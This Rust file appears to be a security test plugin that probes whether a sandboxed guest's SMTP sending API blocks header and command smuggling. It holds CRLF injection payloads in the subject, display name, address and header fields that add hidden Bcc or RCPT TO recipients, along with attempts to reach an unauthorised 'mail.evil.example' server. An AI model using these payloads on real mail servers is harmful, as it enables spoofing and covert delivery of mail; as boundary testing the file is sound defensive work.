//! Puts headers, recipients and commands into a mail that are not its own.

use guest_kit::{
    Attack, ConfigOption, Notification, Receipt, SendError, Want, attack, option, report, smtp, want,
};

struct SmugglesMail;

fn mailbox(name: Option<&str>, address: &str) -> smtp::Mailbox {
    smtp::Mailbox { name: name.map(Into::into), address: address.into() }
}

fn mail() -> smtp::Mail {
    smtp::Mail {
        sender: Some(mailbox(None, "mallory@example.com")),
        reply_to: None,
        to: vec![mailbox(None, "alice@example.com")],
        cc: Vec::new(),
        bcc: Vec::new(),
        subject: "hello".into(),
        text: "hello".into(),
        html: None,
        headers: Vec::new(),
        attachments: Vec::new(),
    }
}

fn tried(server: &str, mail: smtp::Mail) -> String {
    let (host, port) = server.rsplit_once(':').expect("host and port");
    let server = smtp::Server {
        host: host.into(),
        port: port.parse().expect("a port"),
        encryption: smtp::Encryption::None,
        login: None,
    };
    match smtp::send(&smtp::Relay::Server(server), &mail) {
        Ok(accepted) => format!("accepted: {}", accepted.reply),
        Err(error) => format!("{}: {}", error.code, error.message),
    }
}

impl Attack for SmugglesMail {
    const NAME: &'static str = "smuggles-mail";

    fn wants() -> Vec<Want> {
        vec![want("smtp", "{host}:{port}")]
    }

    fn options() -> Vec<ConfigOption> {
        vec![option("host", "string"), option("port", "number")]
    }

    /// `event.message` is the granted server and the attack, because an attempt may send one mail only.
    fn send(notification: Notification) -> Result<Receipt, SendError> {
        let (server, attack) = notification.event.message.split_once(' ').expect("a server and an attack");
        let header = |name: &str, value: &str| vec![(name.into(), value.into())];
        let crowd = || (0..60).map(|number| mailbox(None, &format!("u{number}@example.com"))).collect();
        let mail = match attack {
            "subject" => smtp::Mail { subject: "a\r\nBcc: eve@example.com".into(), ..mail() },
            "name" => smtp::Mail { to: vec![mailbox(Some("a\r\nb"), "alice@example.com")], ..mail() },
            "address" => {
                smtp::Mail { to: vec![mailbox(None, "a@example.com>\r\nRCPT TO:<eve@example.com")], ..mail() }
            }
            "quoted address" => smtp::Mail { to: vec![mailbox(None, "\"a>b\"@example.com")], ..mail() },
            "header name" => smtp::Mail { headers: header("X-A\r\nBcc", "eve@example.com"), ..mail() },
            "header value" => smtp::Mail { headers: header("X-A", "b\nBcc: eve@example.com"), ..mail() },
            "foreign header" => smtp::Mail { headers: header("Received", "from me"), ..mail() },
            "many recipients" => smtp::Mail { to: crowd(), ..mail() },
            "no recipient" => smtp::Mail { to: Vec::new(), ..mail() },
            _ => mail(),
        };
        let server = if attack == "another server" { "mail.evil.example:25" } else { server };
        report(format!("{attack} => {}", tried(server, mail)))
    }
}

attack!(SmugglesMail);
